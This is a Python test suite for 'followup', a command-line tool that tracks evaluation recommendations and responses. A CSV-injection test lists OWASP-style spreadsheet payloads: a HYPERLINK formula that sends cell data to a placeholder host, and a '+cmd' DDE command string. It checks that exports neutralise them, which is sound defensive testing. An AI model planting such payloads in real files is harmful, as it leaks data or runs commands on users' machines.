#!/usr/bin/python3
"""Acceptance tests of the followup command line, on real SQLite files.

Usage: cli_test.py PATH/TO/followup
"""
import csv
import datetime
import hashlib
import io
import json
import os
import pty
import re
import sqlite3
import subprocess
import sys
import tempfile
import unittest

FOLLOWUP = None
HERE = os.path.dirname(os.path.abspath(__file__))
MEMOS = os.path.join(HERE, "..", "data", "memos")
SEED = os.path.join(MEMOS, "000_126856058e4a29d7.txt")
EVIDENCE = os.path.join(HERE, "..", "data", "evidence")


def read_json(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)


def fold(text):
    return re.sub(r"\s+", " ", text).strip()


def memo_inputs():
    for name in sorted(os.listdir(MEMOS)):
        if name.endswith(".expected.json"):
            continue
        base = name.rsplit(".", 1)[0]
        expected = os.path.join(MEMOS, base + ".expected.json")
        if os.path.exists(expected):
            yield os.path.join(MEMOS, name), expected


def dump(db_path):
    """Every table's rows, for comparing a store before and after."""
    conn = sqlite3.connect(db_path)
    try:
        return "\n".join(conn.iterdump())
    finally:
        conn.close()


class Store:
    """A store made by `init --admin root`, with the evaluation office's user
    eva. Commands act as eva unless they say --as; units may date their
    facts 9999 days back (the scenarios of 2001 are entered as if on their
    days) unless a test sets FOLLOWUP_UNIT_BACKDATE_DAYS itself."""

    def __init__(self, tmp, init=True):
        self.path = os.path.join(tmp, "store", "followup.db")
        self.url = "sqlite:" + self.path
        if init:
            self.ok("init", "--admin", "root")
            self.ok("--as", "root", "user", "add", "eva", "--role", "evaluation")

    def run(self, *args, stdin=None, env_extra=None):
        env = dict(os.environ)
        env.pop("FOLLOWUP_DB", None)
        env.pop("FOLLOWUP_KEY_FILE", None)
        env["FOLLOWUP_USER"] = "eva"
        env["FOLLOWUP_UNIT_BACKDATE_DAYS"] = "9999"
        if env_extra:
            env.update(env_extra)
        return subprocess.run([FOLLOWUP, "--db", self.url, *args], input=stdin, capture_output=True,
                              env=env, timeout=60)

    def ok(self, *args, stdin=None, env_extra=None):
        r = self.run(*args, stdin=stdin, env_extra=env_extra)
        if r.returncode != 0:
            raise AssertionError(f"followup {' '.join(args)} exited {r.returncode}: {r.stderr.decode()}")
        return r.stdout.decode()

    def run_on_terminal(self, *args, user="dg"):
        """`followup ARGS` as `user` with its standard output a terminal (a
        pseudo-terminal): the finished process, and what reached the terminal."""
        controller, terminal = pty.openpty()
        try:
            env = dict(os.environ, FOLLOWUP_USER=user)
            env.pop("FOLLOWUP_DB", None)
            r = subprocess.run([FOLLOWUP, "--db", self.url, *args], stdout=terminal, stderr=subprocess.PIPE,
                               env=env, timeout=60)
        finally:
            os.close(terminal)
            os.set_blocking(controller, False)
            try:
                shown = os.read(controller, 65536)
            except (BlockingIOError, OSError):
                shown = b""
            os.close(controller)
        return r, shown

    def json(self, *args, stdin=None, env_extra=None):
        return json.loads(self.ok(*args, stdin=stdin, env_extra=env_extra))


def compare_subset(test, expected, actual, where):
    """Every key of `expected` must be in `actual` with the same value;
    recommendation text is compared with white space folded."""
    if isinstance(expected, dict):
        test.assertIsInstance(actual, dict, where)
        for key, value in expected.items():
            test.assertIn(key, actual, f"{where}: missing key {key}")
            if key == "text":
                test.assertEqual(fold(value), fold(actual[key]), f"{where}.text")
            else:
                compare_subset(test, value, actual[key], f"{where}.{key}")
    elif isinstance(expected, list):
        test.assertIsInstance(actual, list, where)
        test.assertEqual(len(expected), len(actual), f"{where}: length")
        for i, (e, a) in enumerate(zip(expected, actual)):
            compare_subset(test, e, a, f"{where}[{i}]")
    else:
        test.assertEqual(expected, actual, where)


class StoreTest(unittest.TestCase):
    """A test with a fresh store in its own temporary folder."""

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.store = Store(self.tmp.name)

    def tearDown(self):
        self.tmp.cleanup()


class CliTest(StoreTest):

    def test_dry_run_matches_every_expected_file(self):
        count = 0
        for memo, expected_path in memo_inputs():
            with self.subTest(memo=os.path.basename(memo)):
                expected = read_json(expected_path)
                r = self.store.run("import", "--dry-run", "--json", memo)
                if "error" in expected:
                    self.assertNotEqual(r.returncode, 0, "a bad memo must fail")
                    self.assertEqual(r.returncode, 1)
                    err = r.stderr.decode()
                    self.assertTrue(err.startswith(memo + ":"), err)
                    if "line" in expected["error"]:
                        self.assertTrue(err.startswith(f"{memo}:{expected['error']['line']}:"), err)
                    for word in expected["error"].get("mentions", []):
                        self.assertIn(word.lower(), err.lower())
                else:
                    self.assertEqual(r.returncode, 0, r.stderr.decode())
                    compare_subset(self, expected, json.loads(r.stdout), "$")
                count += 1
        self.assertGreaterEqual(count, 9)
        self.assertEqual(self.store.json("list", "--json"), [], "a dry run stores nothing")

    def test_seed_overdue_on_the_day_after_due(self):
        self.store.ok("import", SEED)
        rows = self.store.json("list", "--overdue", "--as-of", "2001-09-01", "--json")
        self.assertEqual([r["ref"] for r in rows], ["PLACMI-2#1", "PLACMI-2#2"])
        self.assertEqual(rows[0]["responsible"][0], "MRF Buenos Aires")
        self.assertEqual(rows[1]["responsible"], ["MMS", "MPRP"])
        self.assertEqual(rows[0]["days_overdue"], 1)
        for key in ("ref", "evaluation", "number", "text", "responsible", "due", "days_overdue"):
            self.assertIn(key, rows[0])
        self.assertEqual(self.store.json("list", "--overdue", "--as-of", "2001-08-31", "--json"), [])
        everything = self.store.json("list", "--as-of", "2001-08-31", "--json")
        self.assertEqual([r["days_overdue"] for r in everything], [0, 0])

    def test_list_filters(self):
        self.store.ok("import", SEED)
        self.store.ok("import", os.path.join(MEMOS, "markdown-pipes.md"), "--add-units")
        mms = self.store.json("list", "--unit", "MMS", "--json")
        self.assertEqual([r["ref"] for r in mms], ["PLACMI-2#2", "RRP-WA#2", "RRP-WA#3"])
        by_title = self.store.json("list", "--unit", "Head of MRF Buenos Aires", "--json")
        self.assertEqual([r["ref"] for r in by_title], ["PLACMI-2#1"])
        self.assertEqual([r["ref"] for r in self.store.json("list", "--evaluation", "RRP-WA", "--due-before",
                                                            "2005-01-31", "--json")], ["RRP-WA#1"])
        csv_out = self.store.ok("list", "--csv", "--evaluation", "PLACMI-2")
        self.assertTrue(csv_out.startswith("ref,evaluation,number,due,days_overdue,lead,responsible,text"))
        r = self.store.run("list", "--unit", "Nowhere")
        self.assertEqual(r.returncode, 1)
        self.assertIn("no unit 'Nowhere'", r.stderr.decode())

    def test_import_twice_adds_nothing(self):
        first = self.store.ok("import", SEED)
        self.assertIn("imported PLACMI-2 with 2 recommendations", first)
        before = dump(self.store.path)
        second = self.store.run("import", SEED)
        self.assertEqual(second.returncode, 0)
        self.assertIn("already imported", second.stdout.decode())
        # The same memo saved by Windows (BOM, CRLF) is the same content.
        third = self.store.run("import", os.path.join(MEMOS, "placmi2-windows.txt"))
        self.assertEqual(third.returncode, 0, third.stderr.decode())
        self.assertIn("already imported", third.stdout.decode())
        self.assertEqual(before, dump(self.store.path))

    def test_failed_import_changes_nothing(self):
        self.store.ok("import", SEED)
        before = dump(self.store.path)
        for name in os.listdir(MEMOS):
            if name.startswith("bad-") and not name.endswith(".json"):
                r = self.store.run("import", os.path.join(MEMOS, name))
                self.assertEqual(r.returncode, 1, name)
        # A memo that parses but names a unit nobody knows is refused whole.
        r = self.store.run("import", os.path.join(MEMOS, "markdown-pipes.md"))
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), os.path.join(MEMOS, "markdown-pipes.md") + ":14: a unit is not in the unit "
                         "directory: 'MRF Dakar' (lines 14, 15); add them with 'followup unit add' or 'followup unit "
                         "alias', or import with --add-units\n")
        self.assertEqual(before, dump(self.store.path))

    def test_verify_history_names_a_changed_row(self):
        self.store.ok("import", SEED)
        self.assertIn("verified", self.store.ok("verify-history"))
        conn = sqlite3.connect(self.store.path)
        ids = [row[0] for row in conn.execute("SELECT id FROM history ORDER BY id")]
        self.assertGreater(len(ids), 3)
        target = ids[2]
        conn.execute("UPDATE history SET actor = 'mallory' WHERE id = ?", (target,))
        conn.commit()
        conn.close()
        r = self.store.run("verify-history")
        self.assertEqual(r.returncode, 3)
        self.assertIn(f"entry {target}", r.stderr.decode())

    def test_memo_round_trip_through_standard_input(self):
        self.store.ok("import", SEED)
        expected = read_json(os.path.join(MEMOS, "000_126856058e4a29d7.expected.json"))
        for fmt in ("text", "markdown"):
            with self.subTest(format=fmt):
                memo = self.store.ok("memo", "PLACMI-2", "--format", fmt)
                back = self.store.json("import", "--dry-run", "--json", "-", stdin=memo.encode())
                compare_subset(self, expected["recommendations"], back["recommendations"], "$")
                self.assertEqual(back["evaluation"]["code"], "PLACMI-2")

    def test_memo_kept_as_sent(self):
        # Imported memos come back byte for byte, whatever their encoding or format.
        for name in ("000_126856058e4a29d7.txt", "csv-es-cp1252.csv", "docx-es-table.docx",
                     "xlsx-en-tracker.xlsx"):
            with self.subTest(memo=name):
                path = os.path.join(MEMOS, name)
                code = self.store.json("import", "--json", "--add-units", path)["evaluation"]["code"]
                r = self.store.run("memo", code, "--original")
                self.assertEqual(r.returncode, 0, r.stderr.decode())
                with open(path, "rb") as f:
                    self.assertEqual(r.stdout, f.read())
        # A workbook's memo is shown as the Markdown its fields and table make,
        # and reads back as the same memo.
        regenerated = self.store.ok("memo", "MMTP", "--as-of", "2001-10-01")
        self.assertTrue(regenerated.startswith(
            "To: Head of MRF Buenos Aires; Director, MMS; Director, MPRP\nFrom: The Director General\n"
            "Date: 2001-07-16\nSubject: Evaluation of the Migration Management Training Programme (MMTP)\n\n"
            "| No. | Recommendation | Responsible | Due by |\n"), regenerated[:400])
        again = self.store.run("import", "-", stdin=regenerated.encode())
        self.assertEqual(again.returncode, 0, again.stderr.decode())
        self.assertIn("already imported as MMTP", again.stderr.decode() + again.stdout.decode())
        # The regenerated memo is the memo as sent, then the follow-up.
        self.store.ok("issue", "PLACMI-2", "--as-of", "2001-07-20")
        self.store.ok("respond", "PLACMI-2#2", "--unit", "MMS", "--decision", "accepted",
                      "--as-of", "2001-08-20")
        with open(SEED, encoding="utf-8") as f:
            seed = f.read().replace("\r\n", "\n")
        regenerated = self.store.ok("memo", "PLACMI-2", "--as-of", "2001-10-01")
        self.assertTrue(regenerated.startswith(seed), regenerated[:300])
        self.assertEqual(regenerated[len(seed):], "\n".join([
            "" if seed.endswith("\n") else "\n",
            "FOLLOW-UP AS OF 1 OCTOBER 2001",
            "",
            "1. Due 31 August 2001. State: awaiting response.",
            "   MRF-BA: no response, 31 days overdue.",
            "",
            "2. Due 31 August 2001. State: awaiting response.",
            "   MMS: accepted on 20 August 2001 (on time).",
            "   MPRP: no response, 31 days overdue.",
            "", ""]))
        # It reads back as the same memo.
        again = self.store.run("import", "-", stdin=regenerated.encode())
        self.assertEqual(again.returncode, 0, again.stderr.decode())
        self.assertIn("already imported as PLACMI-2", again.stderr.decode() + again.stdout.decode())

    def test_a_tracker_comes_in_whole_or_not_at_all(self):
        tracker = os.path.join(HERE, "..", "..", "demo", "tracker.csv")
        for code in ("MMS", "MPRP", "MRF-BA", "MRF-SJ", "MRF-DAKAR"):
            self.store.ok("unit", "add", code, "--name", "Unit " + code)
        # A tracker whose last row names a unit nobody knows: refused whole.
        with open(tracker, encoding="utf-8") as f:
            rows = f.read()
        broken = os.path.join(self.tmp.name, "broken.csv")
        with open(broken, "w", encoding="utf-8") as f:
            f.write(rows + "EV-2001-99,Evaluation of X,2001-03-01,1,Do it.,Finance,30/04/2001,,,,,,,Open,\r\n")
        before = dump(self.store.path)
        r = self.store.run("import-tracker", broken)
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, f"{broken}:202: EV-2001-99#1: unit 'Finance' is not in the unit directory (add it "
                             "with unit add, or an alias with unit alias)\n"))
        self.assertEqual(dump(self.store.path), before)
        preview = self.store.json("import-tracker", "--dry-run", "--json", tracker)
        self.assertEqual(dump(self.store.path), before)
        self.assertTrue(preview["dry_run"])
        self.assertEqual(len(preview["entries"]), 170)
        self.assertEqual(preview["unused_columns"], [])
        done = self.store.json("import-tracker", "--json", tracker)
        self.assertEqual({k: v for k, v in done.items() if k != "dry_run"},
                         {k: v for k, v in preview.items() if k != "dry_run"})
        self.assertIn("EV-1998-03", done["created"])
        # Row 20: accepted by MPRP and MRF-SJ, an action, closed as implemented.
        shown = self.store.json("show", "EV-1998-03#3", "--json")
        self.assertEqual(shown["state"], "closed_implemented")
        self.assertEqual([(r["unit"], r["decision"], r["responded_on"], r["recorded"]["late"])
                          for r in shown["responses"]],
                         [("MPRP", "accepted", "1998-06-02", True), ("MRF-SJ", "accepted", "1998-06-02", True)])
        self.assertEqual([a["description"] for a in shown["actions"]],
                         ["Draft a plan for the migration health assessments"])
        self.store.ok("--as", "root", "verify-history")

    def test_an_excel_tracker_reads_as_its_csv(self):
        # demo/tracker.csv kept in Excel (tests/data/make_xlsx_memos.py): two
        # rows above the header, dates as date cells or text, a hidden sheet
        # first. Every entry is the CSV's, its rows two further down.
        for code in ("MMS", "MPRP", "MRF-BA", "MRF-SJ", "MRF-DAKAR"):
            self.store.ok("unit", "add", code, "--name", "Unit " + code)
        csv_file = os.path.join(HERE, "..", "..", "demo", "tracker.csv")
        xlsx_file = os.path.join(HERE, "..", "data", "trackers", "demo-tracker.xlsx")
        from_csv = self.store.json("import-tracker", "--dry-run", "--json", csv_file)
        moved = [re.sub(r"rows? [0-9, and-]+", lambda m: re.sub(r"[0-9]+", lambda n: str(int(n.group()) + 2),
                                                                 m.group()), e)
                 for e in from_csv["entries"]]
        self.assertEqual(len(moved), 170)
        self.assertIn("rows 24-25: EV-1998-03#5: MRF-SJ accepted on 1998-06-04 with 2 key actions; "
                      "in progress on 1998-10-17", moved)
        done = self.store.json("import-tracker", "--json", xlsx_file)
        self.assertEqual(done["entries"], moved)
        self.assertEqual({k: v for k, v in done.items() if k not in ("entries", "file", "dry_run")},
                         {k: v for k, v in from_csv.items() if k not in ("entries", "file", "dry_run")})
        shown = self.store.json("show", "EV-1998-03#3", "--json")
        self.assertEqual(shown["state"], "closed_implemented")
        self.assertEqual([(r["unit"], r["responded_on"]) for r in shown["responses"]],
                         [("MPRP", "1998-06-02"), ("MRF-SJ", "1998-06-02")])
        self.store.ok("--as", "root", "verify-history")

    def test_units(self):
        self.store.ok("import", SEED)
        units = self.store.json("unit", "list", "--json")
        self.assertEqual([u["code"] for u in units], ["MMS", "MPRP", "MRF-BA"])
        self.store.ok("unit", "add", "FIN", "--name", "Finance and Administration", "--head",
                      "Director, Finance and Administration")
        self.store.ok("unit", "alias", "MRF-BA", "IOM Buenos Aires")
        r = self.store.run("unit", "add", "FIN", "--name", "Other")
        self.assertEqual(r.returncode, 1)
        self.assertIn("already exists", r.stderr.decode())
        r = self.store.run("unit", "add", "bad code", "--name", "X")
        self.assertEqual(r.returncode, 1)
        units = {u["code"]: u for u in self.store.json("unit", "list", "--json")}
        self.assertIn("IOM Buenos Aires", units["MRF-BA"]["aliases"])

    def test_errors_and_exit_codes(self):
        self.assertEqual(self.store.run().returncode, 2)
        self.assertEqual(self.store.run("list", "--no-such-flag").returncode, 2)
        r = self.store.run("show", "PLACMI-2#9")
        self.assertEqual(r.returncode, 1)
        self.assertIn("no recommendation PLACMI-2#9", r.stderr.decode())
        r = self.store.run("list", "--as-of", "2001-02-30")
        self.assertEqual(r.returncode, 1)
        self.assertIn("--as-of '2001-02-30' is not a date", r.stderr.decode())
        r = subprocess.run([FOLLOWUP, "--db", "postgresql://nowhere/x", "list"], capture_output=True)
        self.assertNotEqual(r.returncode, 0)
        r = self.store.run("import", os.path.join(self.tmp.name, "missing.txt"))
        self.assertEqual(r.returncode, 1)
        self.assertIn("cannot read '" + os.path.join(self.tmp.name, "missing.txt") + "': No such file",
                      r.stderr.decode())

    def test_outside_files_are_read_bounded_and_only_if_regular(self):
        self.store.ok("import", SEED)
        before = dump(self.store.path)
        fifo = os.path.join(self.tmp.name, "fifo")
        os.mkfifo(fifo)
        refusals = [
            (["import", "/dev/zero"], "followup: '/dev/zero' is a character device, not a regular file"),
            (["import", self.tmp.name], f"followup: '{self.tmp.name}' is a directory, not a regular file"),
            (["import", fifo], f"followup: '{fifo}' is a FIFO (named pipe), not a regular file"),
            (["respond", "PLACMI-2#1", "--file", "/dev/zero"],
             "followup: '/dev/zero' is a character device, not a regular file"),
            (["report-progress", "PLACMI-2#1", "--unit", "MMS", "--status", "in_progress", "--text", "x",
              "--evidence", "/dev/urandom"], "followup: '/dev/urandom' is a character device, not a regular file"),
        ]
        for args, message in refusals:
            with self.subTest(args=args):
                r = self.store.run(*args)
                self.assertEqual(r.returncode, 1, r.stderr.decode())
                self.assertEqual(r.stderr.decode(), message + "\n")
        big = os.path.join(self.tmp.name, "big.json")
        with open(big, "w") as f:
            f.write(" " * (1024 * 1024 + 1))
        r = self.store.run("respond", "PLACMI-2#1", "--file", big)
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, f"followup: '{big}' is larger than the limit of 1048576 bytes\n"))
        r = self.store.run("import", "-", stdin=b"a" * (20 * 1024 * 1024 + 1))
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, "followup: standard input is larger than the limit of 20971520 bytes\n"))
        small = os.path.join(self.tmp.name, "notes.txt")
        with open(small, "w") as f:
            f.write("twelve bytes")
        r = self.store.run("--as", "x", "close", "PLACMI-2#1", "--outcome", "implemented", "--evidence", small,
                           env_extra={"FOLLOWUP_EVIDENCE_MAX_BYTES": "11"})
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, f"followup: '{small}' is larger than the limit of 11 bytes\n"))
        self.assertEqual(before, dump(self.store.path))

    def test_numeric_settings_are_strict(self):
        cases = {"99999999999999999999": "is too large (at most 1073741824)",
                 " 10": "is not a whole number (digits 0-9 only)",
                 "10 ": "is not a whole number (digits 0-9 only)",
                 "1e3": "is not a whole number (digits 0-9 only)",
                 "0x10": "is not a whole number (digits 0-9 only)",
                 "-5": "is not a whole number (digits 0-9 only)",
                 "0": "is too small (at least 1)",
                 "": "is empty"}
        for value, problem in cases.items():
            with self.subTest(value=value):
                r = self.store.run("close", "PLACMI-2#1", "--outcome", "implemented",
                                   env_extra={"FOLLOWUP_EVIDENCE_MAX_BYTES": value})
                self.assertEqual((r.returncode, r.stderr.decode()),
                                 (1, f"followup: FOLLOWUP_EVIDENCE_MAX_BYTES '{value}' {problem}\n"))

    def test_show_json(self):
        self.store.ok("import", SEED)
        shown = self.store.json("show", "PLACMI-2#2", "--json", "--history", "--as-of", "2001-09-03")
        self.assertEqual(shown["ref"], "PLACMI-2#2")
        self.assertEqual(shown["responsible"], ["MMS", "MPRP"])
        self.assertEqual(shown["days_overdue"], 3)
        self.assertEqual([h["action"] for h in shown["history"]], ["import"])

class PasswordTest(StoreTest):
    """`user passwd`: from standard input or typed twice at a terminal."""

    def setUp(self):
        super().setUp()
        self.store.ok("--as", "root", "user", "add", "ana", "--role", "viewer")

    def test_from_standard_input(self):
        out = self.store.ok("--as", "root", "user", "passwd", "ana", stdin=b"a long password\n")
        self.assertEqual(out, "set the password of ana; its sessions are closed\n")
        r = self.store.run("--as", "root", "user", "passwd", "ana", stdin=b"short\n")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), "followup: the password is too short: at least 10 characters\n")
        r = self.store.run("--as", "ana", "user", "passwd", "root", stdin=b"a long password\n")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), "followup: user ana (viewer) cannot set the password of another "
                                            "user: it needs the role admin\n")
        r = self.store.run("--as", "root", "user", "passwd", "nobody", stdin=b"a long password\n")
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), "followup: no user nobody\n")
        r = self.store.run("--as", "root", "user", "passwd", "ana", stdin=b"x" * 5000)
        self.assertEqual(r.returncode, 1)
        self.assertEqual(r.stderr.decode(), "followup: the password is longer than 1024 bytes\n")

    def typed(self, *lines):
        """Runs `user passwd ana` on a terminal and types `lines`."""
        pid, fd = pty.fork()
        if pid == 0:
            os.execve(FOLLOWUP, [FOLLOWUP, "--db", self.store.url, "--as", "root", "user", "passwd", "ana"],
                      {k: v for k, v in os.environ.items() if not k.startswith("FOLLOWUP_")})
        output = b""
        for line in lines:
            while b":" not in output.split(b"\n")[-1]:
                output += os.read(fd, 1024)
            os.write(fd, line.encode() + b"\n")
            output += os.read(fd, 1024)
        while True:
            try:
                chunk = os.read(fd, 1024)
            except OSError:
                break
            if not chunk:
                break
            output += chunk
        _, status = os.waitpid(pid, 0)
        return os.waitstatus_to_exitcode(status), output.decode()

    def test_typed_twice_at_a_terminal_without_echo(self):
        code, output = self.typed("a long password", "a long password")
        self.assertEqual(code, 0, output)
        self.assertNotIn("a long password", output)
        self.assertIn("New password: ", output)
        self.assertIn("The same again: ", output)
        self.assertIn("set the password of ana; its sessions are closed", output)
        code, output = self.typed("a long password", "another password")
        self.assertEqual(code, 1, output)
        self.assertIn("followup: the two passwords differ; nothing was changed", output)


class ConfigTest(unittest.TestCase):
    """The settings file, the variables that override it and the options
    that override both (docs/cli.md, *Configuration*)."""

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.db = os.path.join(self.tmp.name, "store", "followup.db")
        self.config = self.write("followup.toml", f"""# the store of this test
[store]
url = "sqlite:{self.db}"

[cli]
user = "root"

[workflow]
unit_backdate_days = 9999
""")

    def tearDown(self):
        self.tmp.cleanup()

    def write(self, name, text):
        path = os.path.join(self.tmp.name, name)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        return path

    def run_followup(self, *args, env_extra=None):
        env = {k: v for k, v in os.environ.items() if not k.startswith("FOLLOWUP_")}
        env.update(env_extra or {})
        return subprocess.run([FOLLOWUP, *args], capture_output=True, env=env, cwd=self.tmp.name, timeout=60)

    def test_the_file_names_the_store_and_who_acts(self):
        r = self.run_followup("--config", self.config, "init", "--admin", "root")
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.assertIn(f"store ready: sqlite:{self.db}", r.stdout.decode())
        self.assertTrue(os.path.exists(self.db + ".key"))
        r = self.run_followup("user", "add", "eva", "--role", "evaluation",
                              env_extra={"FOLLOWUP_CONFIG": self.config})
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        # The variable overrides the file, the option overrides both.
        r = self.run_followup("--config", self.config, "user", "add", "x", "--role", "viewer",
                              env_extra={"FOLLOWUP_USER": "eva"})
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, "followup: user eva (evaluation) cannot add users: it needs the role admin\n"))
        r = self.run_followup("--config", self.config, "--as", "root", "user", "add", "x", "--role", "viewer",
                              env_extra={"FOLLOWUP_USER": "eva"})
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        r = self.run_followup("--config", self.config, "--db", "sqlite:" + os.path.join(self.tmp.name, "other.db"),
                              "list")
        self.assertEqual(r.returncode, 3)
        self.assertIn("no store at", r.stderr.decode())

    def test_a_mistake_in_the_file_names_file_line_and_key(self):
        cases = [
            ("[store]\nurll = \"sqlite:x.db\"\n", "bad.toml:2: unknown setting store.urll"),
            ("[workflow]\n\nunit_backdate_days = 10000\n",
             "bad.toml:3: workflow.unit_backdate_days 10000 is too large (at most 9999)"),
            ("[evidence]\nmax_bytes = \"big\"\n", "bad.toml:2: evidence.max_bytes must be a whole number"),
            ("[evidence]\ntypes = [\"text/plain\", 1]\n", "bad.toml:2: evidence.types must be an array of strings"),
        ]
        for text, message in cases:
            with self.subTest(message=message):
                self.write("bad.toml", text)
                for how in (("--config", "bad.toml", "list"), ("list",)):
                    r = self.run_followup(*how, env_extra={"FOLLOWUP_CONFIG": "bad.toml"})
                    self.assertEqual((r.returncode, r.stderr.decode(), r.stdout), (1, message + "\n", b""))
        self.write("bad.toml", "[store]\nurl = \n")
        r = self.run_followup("--config", "bad.toml", "list")
        self.assertEqual(r.returncode, 1)
        self.assertTrue(r.stderr.decode().startswith("bad.toml:2: "), r.stderr.decode())
        r = self.run_followup("--config", "missing.toml", "list")
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, "followup: cannot read 'missing.toml': No such file or directory\n"))

    def test_a_variable_overrides_a_number_in_the_file(self):
        self.run_followup("--config", self.config, "init", "--admin", "root")
        r = self.run_followup("--config", self.config, "list", env_extra={"FOLLOWUP_UNIT_BACKDATE_DAYS": "abc"})
        self.assertEqual((r.returncode, r.stderr.decode()),
                         (1, "followup: FOLLOWUP_UNIT_BACKDATE_DAYS 'abc' is not a whole number (digits 0-9 only)\n"))
        r = self.run_followup("--config", self.config, "list", env_extra={"FOLLOWUP_UNIT_BACKDATE_DAYS": "3"})
        self.assertEqual((r.returncode, r.stdout.decode()), (0, "no recommendations match\n"))


# What a spreadsheet would run, as OWASP's CSV-injection page lists it.
FORMULAS = ['=HYPERLINK("http://x?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
            " =1", "\uff1d1+1", "\uff20SUM(1)"]


def memo_paragraphs(original):
    """The memo's text as the Word memo's paragraphs: the runs of lines
    between blank lines."""
    out, lines = [], []
    for line in original.split("\n"):
        if line.rstrip(" \t") == "":
            if lines:
                out.append("\n".join(lines))
            lines = []
        else:
            lines.append(line)
    if lines:
        out.append("\n".join(lines))
    return out


def memo_split(store, code, day):
    """`memo CODE --as-of DAY` as text (DAY in 2005-06-01's form): the memo
    as sent and its follow-up, the heading between them left out."""
    shown = store.ok("--as", "dg", "memo", code, "--as-of", day)
    heading = "\nFOLLOW-UP AS OF " + long_day(day).upper() + "\n\n"
    return shown.split(heading)


def long_day(day):
    """2005-06-01 as the memos write it: 1 June 2005."""
    d = datetime.date.fromisoformat(day)
    months = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October",
              "November", "December"]
    return f"{d.day} {months[d.month - 1]} {d.year}"


def formula_memo(texts):
    """A Markdown memo with one recommendation per text, all for MMS."""
    rows = "\n".join(f"| {i + 1} | {t.replace('|', chr(92) + '|')} | Director, MMS | 2004-12-15 |"
                     for i, t in enumerate(texts))
    return ("# MEMORANDUM\n\n**To:** Director, MMS\n**From:** The Director General\n**Date:** 2004-11-02\n"
            "**Subject:** Evaluation of the Formula Pilot (FP)\n\n## Proposal for follow-up on Recommendations\n\n"
            "| No. | Recommendation | Responsibility for Follow-up | Confirmation of follow-up due by |\n"
            "|----:|---|---|---|\n" + rows + "\n")


def formula_cells(csv_text):
    """The cells of a CSV output that a spreadsheet would read as a formula."""
    bad = []
    for row in csv.reader(io.StringIO(csv_text, newline="")):
        for cell in row:
            if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d",
                                                                 "\uff20"):
                bad.append(cell)
    return bad


class CsvInjectionTest(StoreTest):
    """Every CSV the program writes keeps hostile text as text."""

    def test_no_csv_cell_starts_a_formula(self):
        s = self.store
        memo = os.path.join(self.tmp.name, "formulas.md")
        # A memo line cannot carry a carriage return: the reader ends the line there.
        in_memo = [f for f in FORMULAS if "\r" not in f]
        with open(memo, "w", encoding="utf-8") as f:
            f.write(formula_memo(in_memo))
        s.ok("--as", "eva", "import", memo)
        s.ok("--as", "root", "user", "add", "mms", "--role", "unit", "--unit", "MMS")
        s.ok("--as", "eva", "issue", "FP", "--as-of", "2004-11-03")
        # Typed text refuses a lone carriage return, so it goes in by the memo's neighbours only.
        typed = [f for f in FORMULAS if "\r" not in f]
        for i, text in enumerate(typed):
            ref = f"FP#{i + 1}"
            s.ok("--as", "mms", "respond", ref, "--unit", "MMS", "--decision", "accepted", "--action",
                 f"{text.replace('|', '/')}|MMS|2004-12-01", "--as-of", "2004-11-10")
            s.ok("--as", "mms", "report-progress", ref, "--unit", "MMS", "--status", "in_progress", "--text", text,
                 "--as-of", "2004-11-20")
        outputs = {"list": s.ok("--as", "eva", "list", "--csv", "--as-of", "2005-06-01")}
        for kind in (["status"], ["overdue"], ["rates"], ["unit", "MMS"]):
            outputs[kind[0]] = s.ok("--as", "eva", "report", *kind, "--format", "csv", "--as-of", "2005-06-01")
        for name, out in outputs.items():
            with self.subTest(output=name):
                self.assertEqual(formula_cells(out), [], out)
        # The payloads are there, kept as text behind a quote.
        self.assertIn("'=HYPERLINK(\"http://x?x=\"&A1,\"click\")", next(csv.reader(io.StringIO(
            outputs["list"].splitlines()[1]))))
        self.assertIn("'@SUM(1+1)", outputs["overdue"])
        self.assertIn("'-2+3", outputs["unit"])


class WorkflowTest(unittest.TestCase):
    """The scenario of issue 3, replayed as a new user would."""

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.store = Store(self.tmp.name)
        s = self.store
        s.ok("--as", "eva", "import", SEED)
        users = [("dg", "executive", None), ("ba", "unit", "MRF-BA"),
                 ("mms", "unit", "MMS"), ("mprp", "unit", "MPRP"), ("auditor", "viewer", None)]
        for name, role, unit in users:
            args = ["--as", "root", "user", "add", name, "--role", role]
            if unit:
                args += ["--unit", unit]
            s.ok(*args)
        s.ok("--as", "eva", "issue", "PLACMI-2", "--as-of", "2001-07-20")
        out = s.ok("--as", "ba", "respond", "PLACMI-2#1", "--unit", "MRF Buenos Aires", "--decision", "accepted",
                   "--action", "Convene the meeting of the four MRFs|MRF-BA|2001-10-31",
                   "--action", "Agree parameters for collaboration|MMS|2001-12-31", "--as-of", "2001-08-20")
        self.action_ids = [int(m) for m in re.findall(r"action (\d+):", out)]
        self.assertEqual(len(self.action_ids), 2, out)
        s.ok("--as", "mms", "respond", "PLACMI-2#2", "--unit", "MMS", "--decision", "accepted",
             "--as-of", "2001-08-25")
        response = os.path.join(self.tmp.name, "mprp.json")
        with open(response, "w") as f:
            json.dump({"unit": "MPRP", "decision": "partially_accepted", "rationale": "Only the regional part",
                       "actions": [{"description": "Study the mechanisms", "unit": "MPRP", "due": "2002-03-31"}]}, f)
